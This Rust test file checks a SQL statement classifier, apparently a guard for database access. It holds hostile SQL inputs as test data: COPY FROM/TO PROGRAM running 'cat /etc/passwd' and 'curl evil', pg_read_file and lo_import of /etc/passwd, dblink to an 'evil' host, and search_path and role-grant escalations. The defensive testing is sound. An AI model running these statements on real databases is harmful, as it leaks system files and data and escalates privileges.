//! Table-driven tests of DDL, DCL and utility statements that reach relations (EXPLAIN, PREPARE, cursors, COPY, CREATE ... AS, SELECT INTO, views, rules, triggers, functions, policies, LIKE/INHERITS/REFERENCES, GRANT, TRUNCATE, LOCK, VACUUM), and of dangerous function calls.

use super::tests_support::{case, must, run_table, Case};
use super::{is_safe_builtin_function, StatementKind as K};

fn wrapped_statements() -> Vec<Case> {
    let s = &["select secrets"];
    vec![
        case(
            "PREPARE p AS SELECT * FROM secrets",
            K::Prepare { name: "p".into() },
            s,
        ),
        case(
            "PREPARE p(int) AS DELETE FROM secrets WHERE id = $1",
            K::Prepare { name: "p".into() },
            &["delete secrets", "select secrets"],
        ),
        case(
            "PREPARE p AS INSERT INTO orders SELECT * FROM secrets RETURNING *",
            K::Prepare { name: "p".into() },
            &["insert orders", "select orders", "select secrets"],
        ),
        case(
            "EXPLAIN ANALYZE SELECT * FROM secrets",
            K::Explain { analyze: true },
            s,
        ),
        case(
            "EXPLAIN SELECT * FROM secrets",
            K::Explain { analyze: false },
            s,
        ),
        case(
            "EXPLAIN (ANALYZE false) SELECT * FROM secrets",
            K::Explain { analyze: false },
            s,
        ),
        case(
            "EXPLAIN (ANALYZE off, COSTS) SELECT * FROM secrets",
            K::Explain { analyze: false },
            s,
        ),
        case(
            "EXPLAIN (ANALYZE 1) SELECT * FROM secrets",
            K::Explain { analyze: true },
            s,
        ),
        case(
            "EXPLAIN (ANALYZE 'on') SELECT * FROM secrets",
            K::Explain { analyze: true },
            s,
        ),
        case(
            "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM secrets",
            K::Explain { analyze: true },
            &["delete secrets"],
        ),
        case(
            "EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT * FROM secrets",
            K::Explain { analyze: true },
            &["ddl t2", "select secrets"],
        ),
        case("EXPLAIN EXECUTE p(1)", K::Explain { analyze: false }, &[]),
        case(
            "DECLARE c CURSOR FOR SELECT * FROM secrets",
            K::DeclareCursor {
                name: "c".into(),
                hold: false,
            },
            s,
        ),
        case(
            "DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT s FROM secrets ORDER BY 1",
            K::DeclareCursor {
                name: "c".into(),
                hold: true,
            },
            s,
        ),
        case(
            "COPY (SELECT * FROM secrets) TO STDOUT",
            K::Copy {
                to_program_or_file: false,
            },
            s,
        ),
        case(
            "COPY secrets TO STDOUT",
            K::Copy {
                to_program_or_file: false,
            },
            &["copyto secrets"],
        ),
        case(
            "COPY public.secrets (id, s) TO STDOUT WITH (FORMAT csv)",
            K::Copy {
                to_program_or_file: false,
            },
            &["copyto public.secrets"],
        ),
        case(
            "COPY secrets FROM STDIN",
            K::Copy {
                to_program_or_file: false,
            },
            &["copyfrom secrets"],
        ),
        case(
            "COPY secrets FROM STDIN WHERE id > (SELECT 1 FROM orders)",
            K::Copy {
                to_program_or_file: false,
            },
            &["copyfrom secrets", "select orders"],
        ),
        case(
            "COPY secrets TO '/tmp/x'",
            K::Copy {
                to_program_or_file: true,
            },
            &["copyto secrets"],
        ),
        case(
            "COPY secrets FROM PROGRAM 'cat /etc/passwd'",
            K::Copy {
                to_program_or_file: true,
            },
            &["copyfrom secrets"],
        ),
        case(
            "COPY (SELECT 1) TO PROGRAM 'curl evil'",
            K::Copy {
                to_program_or_file: true,
            },
            &[],
        ),
        case(
            "COPY (DELETE FROM secrets RETURNING *) TO STDOUT",
            K::Copy {
                to_program_or_file: false,
            },
            &["delete secrets", "select secrets"],
        ),
        case(
            "CREATE TABLE copy AS SELECT * FROM secrets",
            K::Ddl,
            &["ddl copy", "select secrets"],
        ),
        case(
            "CREATE TEMP TABLE t AS SELECT * FROM secrets",
            K::Ddl,
            &["ddl pg_temp.t", "select secrets"],
        ),
        case(
            "CREATE MATERIALIZED VIEW mv AS SELECT * FROM secrets WITH NO DATA",
            K::Ddl,
            &["ddl mv", "select secrets"],
        ),
        case(
            "SELECT * INTO copy FROM secrets",
            K::Ddl,
            &["ddl copy", "select secrets"],
        ),
        case(
            "SELECT * INTO TEMP copy FROM orders UNION SELECT * FROM secrets",
            K::Ddl,
            &["ddl pg_temp.copy", "select orders", "select secrets"],
        ),
        case(
            "CREATE VIEW v AS SELECT * FROM secrets",
            K::Ddl,
            &["ddl v", "select secrets"],
        ),
        case(
            "CREATE OR REPLACE VIEW public.v (a) AS SELECT s FROM secrets WITH CHECK OPTION",
            K::Ddl,
            &["ddl public.v", "select secrets"],
        ),
        case(
            "CREATE SCHEMA s CREATE VIEW v AS SELECT * FROM secrets",
            K::Ddl,
            &["ddl v", "select secrets"],
        ),
        case("REFRESH MATERIALIZED VIEW mv", K::Ddl, &["ddl mv"]),
        case("CALL proc((SELECT s FROM secrets LIMIT 1))", K::Call, s).funcs(&["proc"]),
        case(
            "EXECUTE p((SELECT 1 FROM secrets))",
            K::Execute { name: "p".into() },
            s,
        ),
        case("DO $$BEGIN PERFORM * FROM secrets; END$$", K::Do, &[]),
    ]
}

fn ddl_and_dcl() -> Vec<Case> {
    vec![
        case("TRUNCATE secrets", K::Truncate, &["truncate secrets"]),
        case("TRUNCATE TABLE ONLY orders, public.secrets CASCADE", K::Truncate, &["truncate orders", "truncate public.secrets"]),
        case("LOCK secrets", K::Lock, &["lock secrets"]),
        case("LOCK TABLE orders, secrets IN ACCESS EXCLUSIVE MODE NOWAIT", K::Lock, &["lock orders", "lock secrets"]),
        case("DROP TABLE secrets", K::Ddl, &["ddl secrets"]),
        case("DROP TABLE IF EXISTS public.secrets, orders CASCADE", K::Ddl, &["ddl public.secrets", "ddl orders"]),
        case("DROP VIEW v", K::Ddl, &["ddl v"]),
        case("DROP INDEX CONCURRENTLY s.i", K::Ddl, &["ddl s.i"]),
        case("DROP TRIGGER t ON public.secrets", K::Ddl, &["ddl public.secrets"]),
        case("DROP POLICY p ON secrets", K::Ddl, &["ddl secrets"]),
        case("DROP SCHEMA public CASCADE", K::Ddl, &["ddl public.*"]),
        case("DROP FUNCTION f(int)", K::Ddl, &[]),
        case("ALTER TABLE secrets ADD COLUMN x int", K::Ddl, &["ddl secrets"]),
        case("ALTER TABLE orders INHERIT secrets", K::Ddl, &["ddl orders", "ddl secrets"]),
        case(
            "ALTER TABLE secrets ATTACH PARTITION p FOR VALUES IN (1)",
            K::Ddl,
            &["ddl secrets", "ddl p"],
        ),
        case(
            "ALTER TABLE orders ALTER COLUMN total TYPE numeric USING (SELECT 1 FROM secrets)",
            K::Ddl,
            &["ddl orders", "select secrets"],
        ),
        case(
            "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (customer_id) REFERENCES secrets (id)",
            K::Ddl,
            &["ddl orders", "select secrets"],
        ),
        case("ALTER TABLE secrets RENAME TO s2", K::Ddl, &["ddl secrets"]),
        case("ALTER TABLE secrets RENAME COLUMN s TO t", K::Ddl, &["ddl secrets"]),
        case(
            "ALTER TABLE secrets SET SCHEMA other",
            K::Ddl,
            &["ddl secrets", "ddl other.secrets"],
        ),
        case("ALTER SCHEMA s RENAME TO public", K::Ddl, &["ddl s.*", "ddl public.*"]),
        case("ALTER TABLE secrets OWNER TO agent", K::Ddl, &["ddl secrets"]),
        case("ALTER VIEW v OWNER TO agent", K::Ddl, &["ddl v"]),
        case("ALTER SCHEMA s OWNER TO agent", K::Dcl, &["dcl s.*"]),
        case("CREATE TABLE t (LIKE secrets INCLUDING ALL)", K::Ddl, &["ddl t", "select secrets"]),
        case(
            "CREATE TABLE t (id int REFERENCES secrets (id), x text DEFAULT 'a')",
            K::Ddl,
            &["ddl t", "select secrets"],
        ),
        case("CREATE TABLE child () INHERITS (secrets)", K::Ddl, &["ddl child", "ddl secrets"]),
        case("CREATE TABLE p PARTITION OF secrets DEFAULT", K::Ddl, &["ddl p", "ddl secrets"]),
        case(
            "CREATE TABLE t (x int CHECK (x > (SELECT 1 FROM secrets)))",
            K::Ddl,
            &["ddl t", "select secrets"],
        ),
        case("CREATE UNLOGGED TABLE IF NOT EXISTS s.t (id serial PRIMARY KEY)", K::Ddl, &["ddl s.t"]),
        case("CREATE INDEX ON secrets (lower(s)) WHERE id > 0", K::Ddl, &["ddl secrets"]),
        case("CREATE SEQUENCE seq OWNED BY secrets.id", K::Ddl, &["ddl seq"]),
        case("COMMENT ON TABLE secrets IS 'x'", K::Ddl, &["ddl secrets"]),
        case("COMMENT ON COLUMN public.secrets.s IS 'x'", K::Ddl, &["ddl public.secrets"]),
        case("COMMENT ON FUNCTION f(int) IS 'x'", K::Ddl, &[]),
        case(
            "CREATE RULE r AS ON INSERT TO orders DO ALSO INSERT INTO audit SELECT * FROM secrets",
            K::Ddl,
            &["ddl orders", "insert audit", "select secrets"],
        ),
        case(
            "CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW WHEN (NEW.total > 0) EXECUTE FUNCTION leak()",
            K::Ddl,
            &["ddl orders"],
        )
        .funcs(&["leak"]),
        case(
            "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM secrets; END",
            K::Ddl,
            &["select secrets"],
        ),
        case(
            "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql RETURN (SELECT count(*) FROM secrets)",
            K::Ddl,
            &["select secrets"],
        ),
        case(
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = public AS 'SELECT s FROM secrets'",
            K::Ddl,
            &[],
        ),
        case(
            "CREATE POLICY p ON orders USING (EXISTS (SELECT 1 FROM secrets))",
            K::Ddl,
            &["ddl orders", "select secrets"],
        ),
        case("GRANT SELECT ON secrets TO public", K::Dcl, &["dcl secrets"]),
        case("GRANT SELECT (s) ON TABLE public.secrets TO agent WITH GRANT OPTION", K::Dcl, &["dcl public.secrets"]),
        case("REVOKE ALL ON secrets, orders FROM agent", K::Dcl, &["dcl secrets", "dcl orders"]),
        case("GRANT ALL ON ALL TABLES IN SCHEMA public TO agent", K::Dcl, &["dcl public.*"]),
        case("GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO agent", K::Dcl, &[]),
        case("GRANT USAGE ON SCHEMA public TO agent", K::Dcl, &[]),
        case(
            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO agent",
            K::Dcl,
            &["dcl public.*"],
        ),
        case("GRANT admin TO agent", K::Dcl, &[]),
        case("CREATE ROLE r LOGIN PASSWORD 'x'", K::Dcl, &[]),
        case("ALTER ROLE agent SET search_path = evil", K::Dcl, &[]),
        case("VACUUM secrets", K::Maintenance, &["maintenance secrets"]),
        case("VACUUM (FULL, ANALYZE) secrets (s), orders", K::Maintenance, &["maintenance secrets", "maintenance orders"]),
        case("ANALYZE secrets", K::Maintenance, &["maintenance secrets"]),
        case("VACUUM", K::Maintenance, &[]),
        case("CLUSTER secrets USING secrets_pkey", K::Maintenance, &["maintenance secrets"]),
        case("REINDEX TABLE secrets", K::Maintenance, &["maintenance secrets"]),
        case("REINDEX SCHEMA public", K::Maintenance, &["maintenance public.*"]),
        case("CHECKPOINT", K::Maintenance, &[]),
        case("CREATE EXTENSION dblink", K::Ddl, &[]),
        case("IMPORT FOREIGN SCHEMA remote LIMIT TO (secrets) FROM SERVER srv INTO local", K::Ddl, &["ddl local.*"]),
        case("CREATE PUBLICATION p FOR TABLE secrets WHERE (id > 0)", K::Ddl, &["ddl secrets"]),
        case("CREATE PUBLICATION p FOR ALL TABLES", K::Ddl, &["ddl *"]),
        case("CREATE PUBLICATION p FOR TABLES IN SCHEMA public", K::Ddl, &["ddl public.*"]),
        case("CREATE STATISTICS st ON id, s FROM secrets", K::Ddl, &["ddl secrets"]),
        case("SECURITY LABEL ON TABLE secrets IS 'x'", K::Ddl, &["ddl secrets"]),
        case("ALTER EXTENSION e ADD TABLE secrets", K::Ddl, &["ddl secrets"]),
        case("CREATE DOMAIN d AS int CHECK (VALUE > 0)", K::Ddl, &[]),
        case("CREATE TYPE ty AS (a int, b text)", K::Ddl, &["ddl ty"]),
    ]
}

fn dangerous_functions() -> Vec<Case> {
    vec![
        case("SELECT pg_read_file('/etc/passwd')", K::Select, &[]).funcs(&["pg_read_file"]),
        case("SELECT pg_catalog.pg_read_binary_file('x')", K::Select, &[])
            .funcs(&["pg_catalog.pg_read_binary_file"]),
        case("SELECT * FROM pg_ls_dir('.')", K::Select, &[]).funcs(&["pg_ls_dir"]),
        case(
            "SELECT query_to_xml('select * from secrets', true, true, '')",
            K::Select,
            &[],
        )
        .funcs(&["query_to_xml"]),
        case(
            "SELECT set_config('search_path', 'evil', false)",
            K::Select,
            &[],
        )
        .funcs(&["set_config"]),
        case(
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            K::Select,
            &[],
        )
        .funcs(&["dblink"]),
        case("SELECT lo_import('/etc/passwd')", K::Select, &[]).funcs(&["lo_import"]),
        case(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            K::Select,
            &["select pg_stat_activity"],
        )
        .funcs(&["pg_terminate_backend"]),
        case("SELECT nextval('seq')", K::Select, &[]).funcs(&["nextval"]),
        case("SELECT 'secrets'::regclass", K::Select, &[]).funcs(&["pg_catalog.regclass"]),
        case(
            "SELECT regclass 'secrets', 'f'::pg_catalog.regproc",
            K::Select,
            &[],
        )
        .funcs(&["pg_catalog.regclass", "pg_catalog.regproc"]),
        case("SELECT CAST('x' AS regnamespace)", K::Select, &[])
            .funcs(&["pg_catalog.regnamespace"]),
        case("SELECT public.regclass('x')", K::Select, &[]).funcs(&["public.regclass"]),
        case(
            "SELECT evil.count(*) FROM orders",
            K::Select,
            &["select orders"],
        )
        .funcs(&["evil.count"]),
        case(
            "SELECT \"COUNT\"(*) FROM orders",
            K::Select,
            &["select orders"],
        )
        .funcs(&["COUNT"]),
        case(
            "SELECT * FROM orders WHERE f(id)",
            K::Select,
            &["select orders"],
        )
        .funcs(&["f"]),
        case(
            "SELECT x FROM orders ORDER BY pg_sleep(1)",
            K::Select,
            &["select orders"],
        )
        .funcs(&["pg_sleep"]),
        case(
            "SELECT 1 FROM orders GROUP BY ROLLUP(pg_advisory_lock(1))",
            K::Select,
            &["select orders"],
        )
        .funcs(&["pg_advisory_lock"]),
        case(
            "SELECT count(*) OVER (ORDER BY evil()) FROM orders",
            K::Select,
            &["select orders"],
        )
        .funcs(&["count", "evil"]),
        case(
            "SELECT * FROM orders WHERE total > (SELECT pg_catalog.current_setting('x')::int)",
            K::Select,
            &["select orders"],
        )
        .funcs(&["pg_catalog.current_setting"]),
        case(
            "CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))",
            K::Ddl,
            &["ddl t"],
        )
        .funcs(&["pg_read_file"]),
        case(
            "CREATE TABLE t AS SELECT pg_read_file('/etc/passwd')",
            K::Ddl,
            &["ddl t"],
        )
        .funcs(&["pg_read_file"]),
        case("CALL public.proc(1)", K::Call, &[]).funcs(&["public.proc"]),
        case(
            "SELECT * FROM orders WHERE total OPERATOR(evil.>) 0",
            K::Select,
            &["select orders"],
        )
        .funcs(&["evil.OPERATOR(>)"]),
        case(
            "SELECT * FROM orders ORDER BY total USING OPERATOR(evil.<)",
            K::Select,
            &["select orders"],
        )
        .funcs(&["evil.OPERATOR(<)"]),
        case(
            "SELECT 1 OPERATOR(evil.=) ANY (SELECT id FROM orders)",
            K::Select,
            &["select orders"],
        )
        .funcs(&["evil.OPERATOR(=)"]),
        case(
            "SELECT * FROM orders WHERE total OPERATOR(pg_catalog.>) 0",
            K::Select,
            &["select orders"],
        )
        .funcs(&[]),
    ]
}

#[test]
fn wrapped_statements_report_the_inner_relations() {
    assert!(run_table(wrapped_statements()) >= 30);
}

#[test]
fn ddl_and_dcl_report_their_objects() {
    assert!(run_table(ddl_and_dcl()) >= 60);
}

#[test]
fn dangerous_functions_are_reported() {
    assert!(run_table(dangerous_functions()) >= 20);
}

#[test]
fn calls_outside_the_safe_builtins_make_the_statement_uncacheable() {
    for c in dangerous_functions() {
        for st in must(&c.sql).statements {
            let expected = st.kind == K::Ddl
                || st.functions.iter().any(|f| {
                    // current_setting: its literal names the setting, which decides.
                    !is_safe_builtin_function(f)
                        || f.name.starts_with("reg")
                        || f.name == "current_setting"
                });
            assert_eq!(st.literal_sensitive, expected, "{}", c.sql);
        }
    }
}
